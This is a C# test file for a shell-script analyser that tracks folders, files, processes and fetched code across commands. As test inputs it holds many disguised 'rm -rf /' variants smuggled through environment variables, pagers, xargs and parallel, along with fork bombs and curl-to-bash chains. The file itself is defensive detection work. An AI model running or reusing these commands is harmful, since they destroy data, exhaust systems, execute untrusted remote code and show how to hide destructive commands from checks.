namespace SigmaShake.Rules.Tests.Analysis;

/// <summary>What goes from one command of a script to another: folders, files, code, processes.</summary>
public sealed class ScriptFlowTests
{
    [Theory]
    [InlineData("cd \"$X\" && rm -rf build", "Delete /home/user/project/$X/build/**")]
    [InlineData("cd $X; cd sub; rm -rf build", "Delete /home/user/project/$X/sub/build/**")]
    [InlineData("cd $X; cd /srv; rm -rf build", "Delete /srv/build/**")]
    [InlineData("env -C \"$X\" rm -rf build", "Delete /home/user/project/$X/build/**")]
    [InlineData("cd $(mktemp -d) && rm -rf build", "Delete /home/user/project/$(mktemp -d)/build/**")]
    [InlineData("cd $X && bash -c 'rm -rf build'", "Delete /home/user/project/$X/build/**")]
    [InlineData("cd $X; rm -rf \"$PWD/build\"", "Delete /home/user/project/$X/$PWD/build/**")]
    public void A_folder_that_is_not_known_stands_in_the_path(string script, string expected) => Assert.Contains(expected, Analysed.Effects(script));

    [Theory]
    [InlineData("echo T=x > out/.env; tar czf - out", "Read /home/user/project/out/.env")]
    [InlineData("echo k > out/a/b; cp -r out /tmp/x", "Read /home/user/project/out/a/b")]
    public void What_a_call_puts_into_a_folder_is_read_with_it(string script, string expected) => Assert.Contains(expected, Analysed.Effects(script));

    [Fact]
    public void What_it_takes_out_again_is_not() => Assert.DoesNotContain("Read /home/user/project/out/.env", Analysed.Effects("echo T=x > out/.env; rm out/.env; tar czf - out"));

    [Theory]
    [InlineData("bomb(){ bomb|bomb& }; bomb")]
    [InlineData("f(){ g & }; g(){ f; }; f")]
    [InlineData("first(){ second; }; second(){ third & }; third(){ first; }; first")]
    public void Functions_that_start_themselves_beside_themselves_never_end(string script) =>
        Assert.Contains(Analysed.Commands(script), command => command.StartsWith("@fork-bomb", StringComparison.Ordinal));

    [Theory]
    [InlineData("f(){ g; }; g(){ f; }; f")]
    [InlineData("f(){ g & }; f; g(){ f; }")]
    [InlineData("f(){ work & wait; }; f; f")]
    public void Others_do(string script) => Assert.DoesNotContain(Analysed.Commands(script), command => command.StartsWith("@fork-bomb", StringComparison.Ordinal));

    [Theory]
    [InlineData("GIT_SSH_COMMAND='sh -c \"rm -rf /\"' git fetch")]
    [InlineData("export GIT_EDITOR='rm -rf /'; git commit")]
    [InlineData("PAGER='rm -rf /' man ls")]
    [InlineData("LESSOPEN='|rm -rf /' less x")]
    [InlineData("echo 'rm -rf /' | tee >(sh)")]
    [InlineData("sudo X=rm sh -c '$X -rf /'")]
    [InlineData("watch sh -c 'rm -rf /'")]
    [InlineData("parallel sh -c 'rm -rf {}' ::: /")]
    [InlineData("parallel ::: 'rm -rf /'")]
    [InlineData("echo 'rm -rf /' | parallel")]
    [InlineData("dash -c '((rm -rf /))'")]
    [InlineData("perl -e 'rm -rf /'")]
    [InlineData("A-B=2 rm -rf /")]
    [InlineData("echo / | xargs --replace= rm -rf {}")]
    [InlineData("env -i A=b rm -rf /")]
    [InlineData("env - rm -rf /")]
    [InlineData("RM.EXE -rf /")]
    [InlineData("command -v rm -rf /")]
    public void Code_is_looked_at_wherever_it_is_carried(string script) => Assert.Contains("rm -rf /", Analysed.Commands(script));

    [Theory]
    [InlineData("GIT_EDITOR=true git rebase --continue", "rm")]
    [InlineData("echo 'rm -rf /' > x.txt; python3 x.txt", "rm")]
    [InlineData("(( i - j > 0 ))", "i")]
    [InlineData("X='rm -rf /' make", "rm")]
    public void Data_is_not(string script, string program) => Assert.DoesNotContain(Analysed.Commands(script), command => command.StartsWith(program + " ", StringComparison.Ordinal));

    [Theory]
    [InlineData("cat x | xargs -I{} sh -c '{}'", "@unknown-code sh")]
    [InlineData("cat x | xargs sh -c", "@unknown-code sh")]
    [InlineData("parallel < x", "@unknown-code parallel")]
    public void Code_that_nobody_sees_is_an_action_of_its_own(string script, string expected) => Assert.Contains(expected, Analysed.Commands(script));

    [Theory]
    [InlineData("curl -o a https://x.y/a; dd if=a of=b; bash b", "@remote-code bash https://x.y/a")]
    [InlineData("exec 3< <(curl https://x.y/a); bash <&3", "@remote-code bash https://x.y/a")]
    [InlineData("exec {fd}> >(bash); curl https://x.y/a >&$fd", "@remote-code bash https://x.y/a")]
    [InlineData("curl https://x.y/a | parallel", "@remote-code parallel https://x.y/a")]
    public void What_is_fetched_is_followed(string script, string expected) => Assert.Contains(expected, Analysed.Commands(script));

    [Fact]
    public void A_function_that_calls_itself_over_and_over_ends() => Assert.NotNull(Analysed.Of("f() { f $1a; f $1b; f $1c; f $1d; f $1e; }; f x; f y").Commands);
}
